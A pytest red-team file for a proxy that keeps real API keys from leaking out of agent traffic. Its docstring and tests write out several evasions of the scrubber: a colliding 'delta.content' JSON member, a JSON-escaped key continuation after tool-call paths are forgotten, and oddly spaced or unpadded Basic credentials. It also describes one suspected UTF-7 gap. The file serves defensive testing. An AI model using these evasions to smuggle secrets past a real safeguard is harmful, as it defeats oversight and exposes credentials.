"""Red team, eighth pass: what changed on 2026-12-03 -- a forgotten token-stream path's loose ends,
the one combined search of a clean event, header fields remembered clean by their finder, and
Basic credentials decoded only for values with a space at index 5.

Each test is one attack on a real ``sandgate proxy`` (the world of tests/proxy/test_redteam.py: the
hostile HTTPS upstream, bound to ``rthostile``, receives the real key after the swap and hands it
back), read as a real client reads it. A break is marked ``xfail(strict=True)``.

All three breaks were fixed on merging (main, 2026-12-03) and are passing tests now: a key or an
output field's value that holds the paths' own syntax is written as a JSON string in a path; a
forgotten path's rests are compared with the new path's first text in its decoded views too; Basic
credentials are read for values and placeholders as leniently as any server reads them
(``basic_text``: any run of spaces or tabs, base64 or base64url, padding optional).

Breaks (as found):

- ``sibling-key-collides-with-the-leaf-path``: an OpenAI chat chunk whose choice carries an extra
  member named ``"delta.content"`` (``"x"``) after ``delta``. A path is a string built by joining
  keys with ``.``, so that member's plain, tagged and indexed paths are the ``content`` leaf's own:
  the scrubber's one stream reads ``<half>x<half>``. The openai SDK ignores the unknown member and
  stitches ``choices[0].delta.content``: the key. (Keys holding ``.``, ``[0]`` or ``<index=0>``
  forge any path.)
- ``escaped-continuation-after-the-path-is-forgotten``: tool call 0's ``arguments`` end with the
  key's first two characters, plain (not held: fewer than MIN_HOLD); 65 one-chunk tool calls push
  call 0's paths out (forgotten with their loose ends); call 0's rest comes back with a JSON escape
  in it (``\\u0052EAL...`` or ``REAL\\u0068ostile...``). ``_loose_end`` compares the new path's
  first text with the remembered rests as raw bytes and lowercased only -- no decoded view -- so it
  neither completes nor continues a rest; the fresh stream's view lacks the first two characters.
  The SDK parses the joined arguments: the key. (Before the loose ends, such a path was never
  forgotten: refused.)
- ``basic-credentials-other-whitespace-or-unpadded``: invariant 2. The key percent-encoded inside
  Basic credentials (``user:rtREALapi%31...``) is refused as ``Basic <token>``, but goes out as
  ``Basic  <token>`` (two spaces), ``Basic\\t<token>`` or ``Basic <token without padding>``:
  ``decode_basic`` splits at one space and decodes strict, padded base64 only, and the base64
  forms cannot see a value encoded before base64. Express's ``basic-auth`` (`` +`` and ``=*`` in
  its pattern) and Django REST framework (``header.split()``) read such credentials.

Held (passing tests): the continuation after the path is forgotten plain, in another case, as a
prefix of the rest (the new stream seeded) then the remainder, and one character a chunk; Basic
credentials written with one space in any letter case of the scheme.

Suspected, not finished: a header verdict that depends on its neighbours. ``first_hit`` caches a
field found clean, sound only if the views of the joined fields are each field's own; the UTF-7
view's gate (an ended run of three or more somewhere) is not, so a field whose last run is left
unended (``rtREAL...+ADY``) is clean alone and dirty beside ``+AGEAYgBj-``, and once cached stays
clean. The same unended final run passes a ``charset=utf-7`` body alone (``str.decode("utf-7")``
reads it): a gap in the views, older than the cache, not tested end to end here.
"""

from __future__ import annotations

import base64
import json
import re

import pytest

from tests.conftest import needs_root
from tests.proxy import test_redteam as world
from tests.proxy.test_redteam import API, HOST, HOSTILE_NAME, ask, get
from tests.proxy.test_redteam6 import halves
from tests.proxy.test_redteam7 import SSE, _refused_or, chat_chunk, openai_chat, served, sse, tool_chunk
from tests.support.hostile import HostileServer
from tests.support.proxyproc import ProxyProcess

pytestmark = needs_root

hostile_ca, hostile, rt = world.hostile_ca, world.hostile, world.rt


def _escaped(text: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in text)


def _args(b: bytes) -> str:
    """The ``note`` the openai SDK's accumulated tool call 0 arguments parse to."""
    return str(json.loads(openai_chat(b).choices[0].message.tool_calls[0].function.arguments)["note"])


def _forgotten(token: str, rest: str, calls: int = 65) -> list[bytes]:
    """Tool call 0's arguments end with the key's first two characters; ``calls`` one-chunk tool
    calls; call 0's ``rest`` (the same id)."""
    first = tool_chunk(0, '{"note": "Your key: ' + token[:2], "call_0")
    others = [tool_chunk(i, "{}", f"call_{i}") for i in range(1, calls + 1)]
    last = tool_chunk(0, rest + '"}', "call_0")
    return sse(first, *others, last)


# == breaks (fixed) =======================================================================================


def test_rt8_sibling_key_collides_with_the_leaf_path(rt: ProxyProcess, hostile: HostileServer) -> None:
    """OpenAI chat chunks, the key in two ``content`` deltas; the first chunk's choice also carries
    ``"delta.content": "x"`` after ``delta``. Invariant 1 (stitched by path): paths are strings of
    keys joined by ``.``, so the extra member's plain, tagged and indexed paths are the leaf's own,
    and the one stream reads ``<half>x<half>``. The openai SDK (``ChatCompletionStreamState``)
    ignores the unknown member: the key."""

    def make(token: str) -> list[bytes]:
        a, b = halves(token)
        first = chat_chunk("c", (0, a))
        first["choices"][0]["delta.content"] = "x"
        return sse(first, chat_chunk("c", (0, b)))

    body = served(rt, hostile, "/rt8/collide", SSE, make)
    assert HOST.real not in _refused_or(body, lambda b: str(openai_chat(b).choices[0].message.content))


@pytest.mark.parametrize("where", ["first-character", "middle"])
def test_rt8_escaped_continuation_after_the_path_is_forgotten(
    rt: ProxyProcess, hostile: HostileServer, where: str
) -> None:
    """Tool call 0's arguments end with ``rt`` (the key's first two characters, plain: not held),
    then 65 tool calls push its paths out, forgotten with their loose ends (the rest of the key);
    then call 0's rest, JSON-escaped at its first character or in its middle. Invariant 1 (a
    forgotten path's loose ends): ``_loose_end`` asks whether the new path's first text begins with
    a rest or is the beginning of one, raw and lowercased only; an escape makes it neither, and the
    new stream's decoded view lacks ``rt``. The openai SDK parses the joined arguments: the key."""

    def make(token: str) -> list[bytes]:
        rest = token[2:]
        rest = _escaped(rest[0]) + rest[1:] if where == "first-character" else rest[:9] + _escaped(rest[9]) + rest[10:]
        return _forgotten(token, rest)

    body = served(rt, hostile, f"/rt8/forgotten-escaped-{where}", SSE, make)
    assert HOST.real not in _refused_or(body, _args)


def _basic_auth_npm(header: str) -> str:
    """``user:password`` as Express's ``basic-auth`` reads it (its CREDENTIALS_REGEXP, then
    ``Buffer.from(token, "base64")``, which takes unpadded base64)."""
    m = re.fullmatch(r" *(?:[Bb][Aa][Ss][Ii][Cc]) +([A-Za-z0-9._~+/-]+=*) *", header)
    assert m is not None
    token = m.group(1)
    return base64.b64decode(token + "=" * (-len(token) % 4)).decode()


def _drf(header: str) -> str:
    """``user:password`` as Django REST framework's BasicAuthentication reads it (``split()``)."""
    scheme, token = header.split()
    assert scheme.lower() == "basic"
    return base64.b64decode(token).decode()


BASIC = {
    "two-spaces": (lambda t: "Basic  " + t, _basic_auth_npm),
    "tab": (lambda t: "Basic\t" + t, _drf),
    "unpadded": (lambda t: "Basic " + t.rstrip("="), _basic_auth_npm),
}


def _pct_credentials() -> str:
    """Basic credentials ``user:<the key with its random part percent-encoded>``, padded base64
    (``user:`` and a key of 41 characters: 46 bytes, so the token ends in ``=``)."""
    v = API.real
    cred = "user:" + v[:9] + "".join(f"%{ord(c):02x}" for c in v[9:])
    token = base64.b64encode(cred.encode()).decode()
    assert token.endswith("=")
    return token


def _sent_basic(rt: ProxyProcess, hostile: HostileServer, header: str) -> tuple[str | None, list[bytes]]:
    before = len(hostile.requests)
    reply = ask(rt, HOSTILE_NAME, get("/rt8/basic", f"Authorization: {header}"))
    return reply.reason, [r.raw_head for r in hostile.requests[before:]]


@pytest.mark.parametrize("shape", list(BASIC))
def test_rt8_basic_credentials_other_whitespace_or_unpadded(
    rt: ProxyProcess, hostile: HostileServer, shape: str
) -> None:
    """The agent sends the ``rtapi`` key (percent-encoded) in Basic credentials to an allowed host,
    written with two spaces, a tab, or without base64 padding. Invariant 2 (a real value in any
    form in a header is refused, Basic credentials decoded): ``Basic <padded token>`` is refused;
    these are not decoded, and no base64 form matches a value encoded before base64. The reader
    on the other side (Express ``basic-auth``, DRF) decodes them; ``unquote`` gives the key."""
    from urllib.parse import unquote

    write, read = BASIC[shape]
    header = write(_pct_credentials())
    assert unquote(read(header).partition(":")[2]) == API.real  # (the reader on the raw header)
    reason, seen = _sent_basic(rt, hostile, header)
    assert reason == "secret_value_outbound" and not seen


# == attempts that held ==========================================================================


@pytest.mark.parametrize(
    "shape",
    ["plain", "mixed-case", "seeded-then-rest", "one-character-at-a-time"],
)  # fmt: skip
def test_rt8_continuation_after_the_path_is_forgotten(rt: ProxyProcess, hostile: HostileServer, shape: str) -> None:
    """As the escaped break, the continuation plain, in another case (``REALHOSTILE`` + the rest),
    as a prefix of the rest (``REALhos``: the new stream is seeded) then the remainder on the same
    call, or one character a chunk. Held: refused or cut."""

    def make(token: str) -> list[bytes]:
        rest = token[2:]
        if shape == "plain":
            return _forgotten(token, rest)
        if shape == "mixed-case":
            return _forgotten(token, rest.upper()[:11] + rest[11:])
        pieces = [rest[:7], rest[7:]] if shape == "seeded-then-rest" else list(rest)
        first = tool_chunk(0, '{"note": "Your key: ' + token[:2], "call_0")
        others = [tool_chunk(i, "{}", f"call_{i}") for i in range(1, 66)]
        tail = [tool_chunk(0, pieces[0], "call_0"), *(tool_chunk(0, p) for p in pieces[1:-1])]
        return sse(first, *others, *tail, tool_chunk(0, pieces[-1] + '"}'))

    body = served(rt, hostile, f"/rt8/forgotten-{shape}", SSE, make)

    def read(b: bytes) -> str:
        return _args(b).lower() if shape == "mixed-case" else _args(b)

    assert (HOST.real.lower() if shape == "mixed-case" else HOST.real) not in _refused_or(body, read)


@pytest.mark.parametrize("scheme", ["Basic", "basic", "BASIC"])
def test_rt8_basic_credentials_any_scheme_case(rt: ProxyProcess, hostile: HostileServer, scheme: str) -> None:
    """The break's credentials written ``<scheme> <padded token>``, the scheme in any case (one
    space, as most clients write it). Held: refused ``secret_value_outbound``, nothing sent."""
    reason, seen = _sent_basic(rt, hostile, f"{scheme} {_pct_credentials()}")
    assert reason == "secret_value_outbound" and not seen
